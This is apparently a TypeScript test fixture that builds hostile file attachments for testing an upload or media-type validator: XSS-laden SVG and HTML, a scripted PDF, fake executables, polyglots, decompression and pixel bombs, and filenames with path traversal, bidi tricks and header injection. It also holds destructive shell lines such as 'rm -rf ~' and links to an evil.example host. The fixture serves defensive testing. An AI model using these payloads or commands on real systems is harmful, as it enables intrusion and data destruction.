import { crc32, deflateSync, gzipSync } from 'node:zlib';

// T-11: what a hostile customer attaches. Each with how it is sent, what its bytes are found to be, and whether a page
// may be given it to draw or play. Made here, so that no virus scanner finds them in the repository.

export interface HostileFile {
  title: string;
  /** As what kind of message it is sent. */
  kind: 'image' | 'video' | 'audio' | 'document' | 'sticker';
  /** What the sender says that it is. */
  declared: string;
  filename: string | null;
  bytes: Buffer;
  /** The one type its bytes give it. */
  type: string;
  shown: boolean;
}

const octets = 'application/octet-stream';
const text = (content: string): Buffer => Buffer.from(content, 'utf8');
const latin = (content: string): Buffer => Buffer.from(content, 'latin1');
/** Each payload would set this on the page's window. */
const attack = 'window.__xss=(window.__xss||0)+1';
const script = `<script>${attack}</script>`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${attack}">${script}<image href="http://evil.example/x"/></svg>`;
const html = `<!doctype html><html><body onload="${attack}">${script}<img src="http://evil.example/x"></body></html>`;
const exe = Buffer.concat([latin('MZ\x90\0'), Buffer.alloc(400)]);
const elf = Buffer.concat([latin('\x7fELF\x02\x01\x01'), Buffer.alloc(400)]);
const pdf = latin(
  `%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`,
);
const zip = (name: string, content = 'x'): Buffer => {
  const header = Buffer.alloc(30);
  header.writeUInt32LE(0x04034b50, 0);
  header.writeUInt16LE(name.length, 26);
  header.writeUInt32LE(content.length, 22);
  return Buffer.concat([header, latin(name), latin(content)]);
};

function png(width: number, height: number, extra: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 0, 0, 0, 0], 8);
  const row = Buffer.alloc(width + 1);
  const pixels = width * height <= 10_000 ? Buffer.concat(Array.from({ length: height }, () => row)) : row;
  return Buffer.concat([
    latin('\x89PNG\r\n\x1a\n'),
    chunk('IHDR', head),
    ...(extra.length > 0 ? [chunk('tEXt', extra)] : []),
    chunk('IDAT', deflateSync(pixels)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function chunk(name: string, data: Buffer): Buffer {
  const body = Buffer.concat([latin(name), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}

function gif(width: number, height: number, behind = ''): Buffer {
  const head = latin('GIF89a\0\0\0\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;');
  head.writeUInt16LE(width, 6);
  head.writeUInt16LE(height, 8);
  return Buffer.concat([head, latin(behind)]);
}

function jpeg(width: number, height: number, comment = ''): Buffer {
  const note = Buffer.concat([Buffer.from([0xff, 0xfe, 0, comment.length + 2]), latin(comment)]);
  const frame = Buffer.from([0xff, 0xc0, 0, 11, 8, 0, 0, 0, 0, 1, 1, 0x11, 0]);
  frame.writeUInt16BE(height, 5);
  frame.writeUInt16BE(width, 7);
  return Buffer.concat([Buffer.from([0xff, 0xd8]), note, frame, Buffer.from([0xff, 0xd9])]);
}

function webp(width: number, height: number): Buffer {
  const head = Buffer.alloc(30);
  head.write('RIFF\x16\0\0\0WEBPVP8X\x0a\0\0\0', 0, 'latin1');
  head.writeUIntLE(width - 1, 24, 3);
  head.writeUIntLE(height - 1, 27, 3);
  return head;
}

const sent = (kind: HostileFile['kind'], title: string, declared: string, filename: string | null) => ({
  kind,
  title,
  declared,
  filename,
});
const document = (
  title: string,
  declared: string,
  filename: string | null,
  bytes: Buffer,
  type: string,
  shown = false,
) => ({
  ...sent('document', title, declared, filename),
  bytes,
  type,
  shown,
});
const image = (title: string, bytes: Buffer, type: string, shown = false, declared = 'image/jpeg') => ({
  ...sent('image', title, declared, null),
  bytes,
  type,
  shown,
});

const exeType = 'application/vnd.microsoft.portable-executable';

/** Markup and scripts under every name they might slip in by. */
const markup: HostileFile[] = [
  image('an SVG with a script, as JPEG', text(svg), 'image/svg+xml'),
  image('an SVG that says what it is', text(svg), 'image/svg+xml', false, 'image/svg+xml'),
  image('an SVG behind an XML head', text(`<?xml version="1.0"?>${svg}`), 'image/svg+xml'),
  image(
    'an SVG behind a byte-order mark',
    Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), text(svg)]),
    'image/svg+xml',
  ),
  image('an SVG behind comments', text(`<!-- a --><!-- b -->${svg}`), 'image/svg+xml'),
  image('a page, as JPEG', text(html), 'text/html'),
  image('a page, as PNG', text(html), 'text/html', false, 'image/png'),
  image('a page behind spaces', text(`\n\n   ${html}`), 'text/html'),
  image('a script tag alone', text(script), 'text/html'),
  image('a frame', text(`<iframe src="javascript:${attack}"></iframe>`), 'text/html'),
  { ...sent('video', 'a page, as film', 'video/mp4', null), bytes: text(html), type: 'text/html', shown: false },
  { ...sent('audio', 'a page, as sound', 'audio/ogg', null), bytes: text(html), type: 'text/html', shown: false },
  {
    ...sent('sticker', 'an SVG, as sticker', 'image/webp', null),
    bytes: text(svg),
    type: 'image/svg+xml',
    shown: false,
  },
  document('a page by its own name', 'text/html', 'page.html', text(html), 'text/html'),
  document('a page as a PDF', 'application/pdf', 'invoice.pdf', text(html), 'text/html'),
  document('an SVG as a PDF', 'application/pdf', 'logo.pdf', text(svg), 'image/svg+xml'),
  document('XHTML', 'application/xhtml+xml', 'x.xhtml', text(`<?xml version="1.0"?><html/>`), 'application/xml'),
  document(
    'XML with an entity bomb',
    'text/xml',
    'x.xml',
    text('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "&a;&a;">]><x/>'),
    'application/xml',
  ),
  document('a script', 'text/javascript', 'x.js', text(attack), 'text/javascript'),
  document('a script as plain text', 'text/plain', 'notes.txt', text(attack), 'text/plain'),
  document(
    'a calendar entry with a script',
    'text/calendar',
    'x.ics',
    text(`BEGIN:VCALENDAR\n${script}`),
    'text/calendar',
  ),
  document('an MHTML page', 'message/rfc822', 'x.mht', text(`MIME-Version: 1.0\n\n${html}`), 'message/rfc822'),
];

/** Programs, and what a system might run or follow. */
const programs: HostileFile[] = [
  document('a Windows program', exeType, 'setup.exe', exe, exeType),
  document('a program as a PDF', 'application/pdf', 'invoice.pdf', exe, exeType),
  image('a program as a picture', exe, exeType),
  document('a program with two endings', octets, 'photo.jpg.exe', exe, exeType),
  document('a Linux program', octets, 'tool', elf, 'application/x-executable'),
  document('a shell script', 'text/plain', 'readme.txt', text('#!/bin/sh\nrm -rf ~\n'), 'text/x-shellscript'),
  document('a Java archive', 'application/zip', 'x.jar', zip('META-INF/MANIFEST.MF'), 'application/java-archive'),
  document(
    'an Android package',
    'application/vnd.android.package-archive',
    'x.apk',
    zip('AndroidManifest.xml'),
    'application/zip',
  ),
  document(
    'a Windows shortcut',
    octets,
    'Invoice.lnk',
    Buffer.concat([latin('L\0\0\0\x01\x14\x02\0'), Buffer.alloc(80)]),
    octets,
  ),
  document(
    'an internet shortcut',
    octets,
    'Invoice.url',
    text('[InternetShortcut]\nURL=file://evil.example/x.exe'),
    octets,
  ),
  document(
    'a Linux starter',
    'application/x-desktop',
    'x.desktop',
    text('[Desktop Entry]\nExec=sh -c x'),
    'application/x-desktop',
  ),
  document('a batch file', 'application/x-bat', 'x.bat', text('@echo off\r\ndel *'), 'application/x-bat'),
  document('a PowerShell script', 'text/plain', 'x.ps1', text('Remove-Item *'), 'text/plain'),
  document('a Windows script host file', 'text/plain', 'x.vbs', text('CreateObject("WScript.Shell")'), 'text/plain'),
  document('an HTML application', 'application/hta', 'x.hta', text(html), 'text/html'),
  document('a disk image', octets, 'x.iso', Buffer.alloc(2000), octets),
  document(
    'a document with macros',
    'application/msword',
    'x.doc',
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(200)]),
    'application/msword',
  ),
  document('a PDF with a script', 'application/pdf', 'form.pdf', pdf, 'application/pdf'),
  document('a page in a ZIP', 'application/zip', 'x.zip', zip('index.html', html), 'application/zip'),
];

/** Files that are two things at once. */
const polyglots: HostileFile[] = [
  image('a GIF that is also a script', gif(1, 1, `*/=1;${attack}//`), 'image/gif', true, 'image/gif'),
  image('a GIF that ends as a page', gif(1, 1, html), 'image/gif', true, 'image/gif'),
  image('a PNG with a page in its notes', png(2, 2, latin(`Comment\0${html}`)), 'image/png', true, 'image/png'),
  image('a JPEG with a page in its comment', jpeg(2, 2, script), 'image/jpeg', true),
  image('a PNG followed by a page', Buffer.concat([png(2, 2), text(html)]), 'image/png', true, 'image/png'),
  image('a PNG that says it is a page', png(2, 2), 'image/png', true, 'text/html'),
  document(
    'a PDF followed by a ZIP',
    'application/pdf',
    'x.pdf',
    Buffer.concat([pdf, zip('x.html', html)]),
    'application/pdf',
  ),
  document('a PDF behind a page', 'application/pdf', 'x.pdf', Buffer.concat([text(html), pdf]), 'text/html'),
  {
    ...sent('video', 'an MP4 head before a page', 'video/mp4', null),
    bytes: Buffer.concat([latin('\0\0\0\x18ftypisom\0\0\0\0'), text(html)]),
    type: 'video/mp4',
    shown: true,
  },
  {
    ...sent('audio', 'an Ogg head before a page', 'audio/ogg', null),
    bytes: Buffer.concat([latin('OggS'), text(html)]),
    type: 'audio/ogg',
    shown: true,
  },
  {
    ...sent('audio', 'an ID3 head before a page', 'audio/mpeg', null),
    bytes: Buffer.concat([latin('ID3'), text(html)]),
    type: 'audio/mpeg',
    shown: true,
  },
  {
    ...sent('video', 'a film list that leads elsewhere', 'video/mp4', null),
    bytes: text('#EXTM3U\nhttp://evil.example/x.ts'),
    type: octets,
    shown: false,
  },
];

/** What would take the memory or the patience of whoever opens it. */
const bombs: HostileFile[] = [
  image('a PNG of 2.5 billion pixels', png(50_000, 50_000), 'image/png', false, 'image/png'),
  image('a PNG of 4 billion columns', png(0xffffffff, 1).subarray(0, 60), 'image/png', false, 'image/png'),
  image('a PNG of no pixels', png(0, 0), 'image/png', false, 'image/png'),
  image('a GIF of 4 billion pixels', gif(65_535, 65_535), 'image/gif', false, 'image/gif'),
  image('a JPEG of 4 billion pixels', jpeg(65_535, 65_535), 'image/jpeg'),
  {
    ...sent('sticker', 'a WebP of 16,000 × 16,000', 'image/webp', null),
    bytes: webp(16_000, 16_000),
    type: 'image/webp',
    shown: false,
  },
  image(
    'a JPEG whose head never ends',
    Buffer.concat([Buffer.from([0xff, 0xd8]), Buffer.alloc(2000, 0xff)]),
    'image/jpeg',
  ),
  image('a PNG cut off in its head', png(2, 2).subarray(0, 12), 'image/png', false, 'image/png'),
  image('a picture of noise', Buffer.from('9f3a'.repeat(400), 'hex'), octets),
  document('a gzip bomb', 'application/gzip', 'x.gz', gzipSync(Buffer.alloc(2_000_000)), 'application/gzip'),
];

/** Names that lie about what they are, or lead out of the folder. */
const names: HostileFile[] = [
  ['a name turned around', 'invoice\u202Efdp.exe'],
  ['a name with a zero-width space', 'in\u200Bvoice.pdf'],
  ['a name with an isolate', '\u2067invoice\u2069.pdf'],
  ['a name that leads up', '../../../../etc/cron.d/x.pdf'],
  ['a name with a drive', 'C:\\Windows\\System32\\x.pdf'],
  ['a name with a NUL', 'invoice.pdf\0.exe'],
  ['a name with line breaks', 'invoice\r\nContent-Type: text\u002fhtml\r\n\r\n.pdf'],
  ['a name of 4,096 characters', `${'a'.repeat(4092)}.pdf`],
  ['a name of dots', '....'],
  ['a name of spaces', '     .pdf'],
  ['the name of a device', 'CON.pdf'],
  ['a hidden name', '.bashrc'],
  ['a name with markup', `<img src=x onerror="${attack}">.pdf`],
  ['a name with quotes', `";alert(1);".pdf`],
  ['a name with combining marks', `Z${'\u0300'.repeat(60)}.pdf`],
  ['a name of emoji', '🦊🧨.pdf'],
].map(([title = '', filename = '']) => document(title, 'application/pdf', filename, pdf, 'application/pdf'));

export const hostileFiles: readonly HostileFile[] = [...markup, ...programs, ...polyglots, ...bombs, ...names];
